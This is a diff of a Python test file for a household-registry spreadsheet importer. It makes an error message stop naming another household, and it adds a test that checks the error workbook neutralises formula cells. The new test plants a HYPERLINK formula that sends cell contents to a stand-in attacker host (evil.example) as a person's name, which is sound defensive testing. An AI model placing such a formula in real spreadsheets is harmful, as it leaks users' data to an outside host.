@@ -56,7 +56,7 @@ def test_id_active_in_another_household(users, households, tmp_path):
     data = form(1)
     data["家庭成员"][2].update({"证件号码": taken.id_number, "性别": "", "出生日期": ""})
     message = _errors(_run(users, tmp_path, data, actor="county"))[("家庭成员", 4, "证件号码")]
-    assert other.number in message and "在册成员" in message
+    assert other.number not in message and "其他户的在册成员" in message and "县级" in message  # never where
 
 
 def test_birth_date_and_sex_disagree_with_the_id(users, tmp_path):
@@ -177,3 +177,17 @@ def test_command_imports(users, tmp_path, capsys):
     path = write_xlsx(tmp_path / "ok.xlsx", form(2))
     call_command("import_registry", str(path), "--user", "clerk", verbosity=0)
     assert "created 2" in capsys.readouterr().out
+
+
+def test_error_report_neutralises_formula_cells(users, tmp_path):
+    """issue 20 A10: the error workbook copies the uploaded cells; a formula typed as a name stays text."""
+    data = form(2)
+    number = data["家庭成员"][1]["证件号码"]
+    data["家庭成员"][1]["证件号码"] = number[:17] + ("0" if number[17] != "0" else "1")
+    data["家庭成员"][1]["姓名"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    data["家庭成员"][0]["姓名"] = "@SUM(1+1)"
+    r = _run(users, tmp_path, data)
+    wb = load_workbook(r.error_report)
+    values = [v for row in wb["家庭成员"].iter_rows(values_only=True) for v in row if isinstance(v, str)]
+    assert not any(v.startswith(("=", "@")) for v in values)
+    assert "'@SUM(1+1)" in values
